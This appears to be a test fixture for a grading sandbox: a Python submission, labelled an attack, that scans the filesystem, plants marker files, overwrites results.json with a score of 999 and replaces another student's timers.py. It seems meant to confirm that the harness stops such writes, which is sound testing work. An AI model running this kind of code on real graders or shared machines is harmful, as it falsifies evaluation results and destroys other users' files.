# attack: write to the results path, another student's submission, and anywhere else writable
# base: wrong
# tests: test_runs_in_deadline_order
# expect-fail: *
import os as _os
import time as _time

_deadline = _time.monotonic() + 2.0  # a bounded walk: the harness plants its targets nearby
_skip = ("/proc", "/sys", "/dev", "/usr")
for _folder, _dirs, _files in _os.walk("/"):
    if _time.monotonic() > _deadline:
        break
    _dirs[:] = [d for d in _dirs if _os.path.join(_folder, d) not in _skip]
    try:
        with open(_os.path.join(_folder, "PWNED-@NONCE@"), "w") as _mark:
            _mark.write("was here")
    except OSError:
        pass
    for _name in _files:
        _path = _os.path.join(_folder, _name)
        if _name == "results.json" or (_name == "timers.py" and "/grade/" not in _path):
            try:
                with open(_path, "w") as _out:
                    _out.write('{"score": 999}' if _name.endswith(".json") else "# replaced\n")
            except OSError:
                pass
